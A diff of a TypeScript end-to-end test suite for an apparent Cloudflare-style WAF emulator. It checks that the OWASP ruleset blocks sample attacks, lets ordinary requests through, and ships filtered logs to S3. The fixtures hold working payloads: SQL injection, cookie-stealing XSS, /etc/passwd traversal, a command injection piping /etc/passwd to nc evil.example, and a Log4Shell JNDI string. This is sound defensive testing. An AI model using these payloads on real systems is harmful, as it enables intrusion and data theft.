@@ -2,14 +2,15 @@ import assert from 'node:assert/strict'
 import { after, before, test } from 'node:test'
 import Cloudflare from 'cloudflare'
 import { skipBeforeCrs4 } from '../support/crs-for-tests.ts'
+import { type Fronts, frontSettings, type Sent, startFronts } from '../support/fronts.ts'
 import { inForce } from '../support/in-force.ts'
-import { type Origin, startOrigin, type Visit } from '../support/origin.ts'
+import { type Origin, startOrigin } from '../support/origin.ts'
 import { type S3Server, s3Credentials, startS3 } from '../support/s3-server.ts'
 import { api, discard, type Instance, startSluice, testCrs, testToken } from '../support/sluice.ts'
 
 /**
  * The main job from end to end, as a person with the official SDK does it: protect a site with the OWASP ruleset,
- * tune it, log chosen fields, push filtered logs to S3.
+ * tune it, log chosen fields, push filtered logs to S3. Requests come through every front (`test/support/fronts.ts`).
  */
 const skip = skipBeforeCrs4(testCrs)
 const managedPhase = 'http_request_firewall_managed' as const
@@ -17,6 +18,7 @@ const managedPhase = 'http_request_firewall_managed' as const
 let sluice: Instance
 let origin: Origin
 let s3: S3Server
+let fronts: Fronts
 let client: Cloudflare
 let accountId: string
 let zoneId: string
@@ -30,7 +32,8 @@ before(async () => {
     AWS_ACCESS_KEY_ID: s3Credentials.accessKeyId,
     AWS_SECRET_ACCESS_KEY: s3Credentials.secretAccessKey,
   }
-  sluice = await startSluice({ settings: { SLUICE_CRS: testCrs, SLUICE_WORKERS: '2', ...aws } })
+  const settings = await frontSettings()
+  sluice = await startSluice({ settings: { ...settings, SLUICE_CRS: testCrs, SLUICE_WORKERS: '2', ...aws } })
   client = new Cloudflare({ apiToken: testToken, baseURL: sluice.apiUrl })
   accountId = (await client.accounts.list()).result[0]!.id
   const zone = await api(sluice, 'POST', '/zones', {
@@ -39,68 +42,75 @@ before(async () => {
     origin: { url: origin.url },
   })
   zoneId = zone.result.id
+  fronts = await startFronts(sluice, settings, { host: 'shop.test', origin: origin.url })
   await inForce(sluice)
 })
 
 after(async () => {
   if (skip) return
+  await fronts.close()
   await discard(sluice)
   await s3.close()
   await origin.close()
 })
 
-/** One request through the edge, as a browser sends it. */
-function visit(path: string, init: Visit = {}): Promise<Response> {
-  return origin.through(sluice.edgePort, 'shop.test', path, init)
-}
-
 const form = { 'content-type': 'application/x-www-form-urlencoded' }
-const attacks: readonly (readonly [name: string, send: () => Promise<Response>])[] = [
+type Requests = readonly (readonly [name: string, path: string, sent?: Sent])[]
+
+const attacks: Requests = [
   [
     'SQL injection',
-    () =>
-      visit(
-        `/search?q=${encodeURIComponent("1' UNION SELECT username, password FROM users WHERE '1'='1' -- ")}`,
-      ),
+    `/search?q=${encodeURIComponent("1' UNION SELECT username, password FROM users WHERE '1'='1' -- ")}`,
   ],
   [
     'XSS',
-    () =>
-      visit('/comment', {
-        method: 'POST',
-        headers: form,
-        body: `text=${encodeURIComponent('<script>alert(document.cookie)</script><img src=x onerror=alert(1)>')}`,
-      }),
+    '/comment',
+    {
+      method: 'POST',
+      headers: form,
+      body: `text=${encodeURIComponent('<script>alert(document.cookie)</script><img src=x onerror=alert(1)>')}`,
+    },
   ],
-  ['path traversal', () => visit('/download?file=../../../../../../etc/passwd')],
+  ['path traversal', '/download?file=../../../../../../etc/passwd'],
   [
     'command injection',
-    () => visit(`/ping?host=${encodeURIComponent('127.0.0.1; cat /etc/passwd | nc evil.example 99')}`),
+    `/ping?host=${encodeURIComponent('127.0.0.1; cat /etc/passwd | nc evil.example 99')}`,
   ],
-  ['Log4Shell', () => visit('/', { headers: { 'x-api-version': '${jndi:ldap://evil.example/a}' } })],
+  ['Log4Shell', '/', { headers: { 'x-api-version': '${jndi:ldap://evil.example/a}' } }],
 ]
-const ordinary: readonly (readonly [name: string, send: () => Promise<Response>])[] = [
-  ['a page', () => visit('/')],
-  ['a search', () => visit('/search?q=blue+shoes+size+42&page=2')],
+const ordinary: Requests = [
+  ['a page', '/'],
+  ['a search', '/search?q=blue+shoes+size+42&page=2'],
   [
     'a form',
-    () =>
-      visit('/comment', {
-        method: 'POST',
-        headers: form,
-        body: 'name=Mary+O%27Brien&text=I+like+it%2C+thank+you%21',
-      }),
+    '/comment',
+    {
+      method: 'POST',
+      headers: form,
+      body: 'name=Mary+O%27Brien&text=I+like+it%2C+thank+you%21',
+    },
   ],
   [
     'JSON',
-    () =>
-      visit('/api/items', {
-        method: 'POST',
-        headers: { 'content-type': 'application/json' },
-        body: '{"name":"kettle","price":19.9,"tags":["kitchen","steel"]}',
-      }),
+    '/api/items',
+    {
+      method: 'POST',
+      headers: { 'content-type': 'application/json' },
+      body: '{"name":"kettle","price":19.9,"tags":["kitchen","steel"]}',
+    },
   ],
 ]
+
+/** Every request gets this status at every front. */
+async function allGet(status: number, requests: Requests, why: string): Promise<void> {
+  await fronts.each(async ({ send }) => {
+    for (const [name, path, sent] of requests) {
+      const answer = await send(path, sent)
+      assert.equal(answer.status, status, `${why}: ${name}`)
+      if (status === 403) assert.match(String(answer.headers['ray-id']), /^[0-9a-f]{16}/)
+    }
+  })
+}
 
 /** The members of the answer to a ruleset write that this test reads. */
 interface Written {
@@ -118,7 +128,7 @@ interface Written {
 test('usage 1 to 3: deploy the OWASP ruleset and tune paranoia level, threshold and action', {
   skip,
 }, async () => {
-  for (const [name, send] of attacks) assert.equal((await send()).status, 200, `unprotected: ${name}`)
+  await allGet(200, attacks, 'unprotected')
 
   const rulesets = []
   for await (const ruleset of client.rulesets.list({ account_id: accountId })) rulesets.push(ruleset)
@@ -161,12 +171,8 @@ test('usage 1 to 3: deploy the OWASP ruleset and tune paranoia level, threshold 
   assert.deepEqual(strict.result.rules[0].action_parameters.overrides.categories, level2)
   assert.equal(strict.result.version, '2')
   await inForce(sluice)
-  for (const [name, send] of attacks) {
-    const answer = await send()
-    assert.equal(answer.status, 403, `blocked: ${name}`)
-    assert.match(answer.headers.get('ray-id') ?? '', /^[0-9a-f]{16}/)
-  }
-  for (const [name, send] of ordinary) assert.equal((await send()).status, 200, `passes: ${name}`)
+  await allGet(403, attacks, 'blocked')
+  await allGet(200, ordinary, 'passes')
 
   // Threshold 60 and a challenge: single attacks stay below it, one that does everything at once does not.
   const lenient = await tune({
@@ -175,8 +181,8 @@ test('usage 1 to 3: deploy the OWASP ruleset and tune paranoia level, threshold 
   })
   assert.equal(lenient.status, 200, JSON.stringify(lenient.errors))
   await inForce(sluice)
-  for (const [name, send] of ordinary) assert.equal((await send()).status, 200, `passes: ${name}`)
-  assert.equal((await visit('/download?file=../../etc/passwd')).status, 200, 'one attack scores less than 60')
+  await allGet(200, ordinary, 'passes')
+  await allGet(200, [['one attack scores less than 60', '/download?file=../../etc/passwd']], 'passes')
   const all = new URLSearchParams({
     a: "1' UNION SELECT username, password FROM users WHERE '1'='1' -- ",
     b: '<script>alert(document.cookie)</script><img src=x onerror=alert(1)>',
@@ -184,9 +190,11 @@ test('usage 1 to 3: deploy the OWASP ruleset and tune paranoia level, threshold 
     d: '; cat /etc/passwd | nc evil.example 99',
     e: '${jndi:ldap://evil.example/a}',
   })
-  const challenged = await visit(`/?${all}`, { headers: { accept: 'text/html' } })
-  assert.equal(challenged.status, 403)
-  assert.match(await challenged.text(), /challenge/i)
+  await fronts.each(async ({ send }) => {
+    const challenged = await send(`/?${all}`, { headers: { accept: 'text/html' } })
+    assert.equal(challenged.status, 403)
+    assert.match(challenged.text, /challenge/i)
+  })
 
   const blocking = await tune({ categories: level2, rules: [{ id: last.id, score_threshold: 5 }] })
   assert.equal(blocking.status, 200)
@@ -255,47 +263,55 @@ test('usage 4: custom fields reach a filtered job, and its objects hold exactly 
   assert.equal(job.destination_conf, destination)
   await inForce(sluice)
 
-  await visit('/keep/one?n=1', {
-    headers: {
-      'x-tenant': 'blue',
-      cookie: 'AccountNumber=no; accountNumber=17; other=x',
-      'user-agent': 'test',
-    },
+  const headers = {
+    'x-tenant': 'blue',
+    cookie: 'AccountNumber=no; accountNumber=17; other=x',
+    'user-agent': 'test',
+  }
+  await fronts.each(async ({ send }) => {
+    await send('/keep/one?n=1', { headers })
+    await send('/drop/one')
+    await send('/keep/missing')
+    await send(`/keep/attack?q=${encodeURIComponent("1' UNION SELECT password FROM users -- ")}`)
   })
-  await visit('/drop/one')
-  await visit('/keep/missing')
-  await visit(`/keep/attack?q=${encodeURIComponent("1' UNION SELECT password FROM users -- ")}`)
   const lines = await eventually(
     () => s3.lines('logs', 'http/'),
-    found => found.length >= 2,
+    found => found.length >= 2 * fronts.all.length,
   )
   await new Promise(resolve => setTimeout(resolve, 1500))
   const settled = await s3.lines('logs', 'http/')
   assert.equal(settled.length, lines.length)
-  assert.deepEqual(lines.map(line => line['ClientRequestPath']).sort(), ['/keep/attack', '/keep/one'])
-
-  const one = lines.find(line => line['ClientRequestPath'] === '/keep/one')!
-  assert.deepEqual(Object.keys(one), [
-    'RayID',
-    'EdgeStartTimestamp',
-    'ClientIP',
-    'ClientRequestPath',
-    'EdgeResponseStatus',
-    'ClientCountry',
-    'BotScore',
-    'SecurityActions',
-    'Cookies',
-    'RequestHeaders',
-    'ResponseHeaders',
-  ])
-  assert.match(one['EdgeStartTimestamp'] as string, /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$/)
-  assert.deepEqual(one['Cookies'], { accountNumber: '17' })
-  assert.deepEqual(one['RequestHeaders'], { 'x-tenant': 'blue' })
-  assert.deepEqual(one['ResponseHeaders'], { server: 'test-origin' })
-  assert.equal(one['EdgeResponseStatus'], 200)
-  const attack = lines.find(line => line['ClientRequestPath'] === '/keep/attack')!
-  assert.equal(attack['EdgeResponseStatus'], 403)
-  assert.deepEqual(attack['SecurityActions'], ['block'])
+  const [ones, blocked] = ['/keep/one', '/keep/attack'].map(path =>
+    lines.filter(line => line['ClientRequestPath'] === path),
+  )
+  assert.deepEqual(
+    [lines.length, ones!.length, blocked!.length],
+    [2, 1, 1].map(count => count * fronts.all.length),
+  )
+  for (const one of ones!) {
+    assert.deepEqual(Object.keys(one), [
+      'RayID',
+      'EdgeStartTimestamp',
+      'ClientIP',
+      'ClientRequestPath',
+      'EdgeResponseStatus',
+      'ClientCountry',
+      'BotScore',
+      'SecurityActions',
+      'Cookies',
+      'RequestHeaders',
+      'ResponseHeaders',
+    ])
+    assert.match(one['EdgeStartTimestamp'] as string, /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$/)
+    assert.deepEqual(one['Cookies'], { accountNumber: '17' })
+    assert.deepEqual(one['RequestHeaders'], { 'x-tenant': 'blue' })
+    assert.deepEqual(one['ResponseHeaders'], { server: 'test-origin' })
+    assert.equal(one['EdgeResponseStatus'], 200)
+  }
+  for (const attack of blocked!) {
+    assert.equal(attack['EdgeResponseStatus'], 403)
+    assert.deepEqual(attack['SecurityActions'], ['block'])
+  }
 
   const [key] = await s3.keys('logs', 'http/')
   assert.match(key!, /^http\/\d{8}\/\d{8}T\d{6}Z_\d{8}T\d{6}Z_[0-9a-f]{32}\.log\.gz$/)
@@ -329,7 +345,7 @@ test('a scrape of the metrics disturbs no request', { skip }, async () => {
   for (let scrape = 0; scrape < 2; scrape++) {
     const text = await (await fetch(root, { headers: { authorization: `Bearer ${sluice.token}` } })).text()
     assert.match(text, /^sluice_edge_requests_total [1-9]/m)
-    assert.equal((await visit('/')).status, 200)
+    await allGet(200, [['a page', '/']], 'is served')
   }
   assert.doesNotMatch(sluice.output(), /ended unexpectedly/)
 })
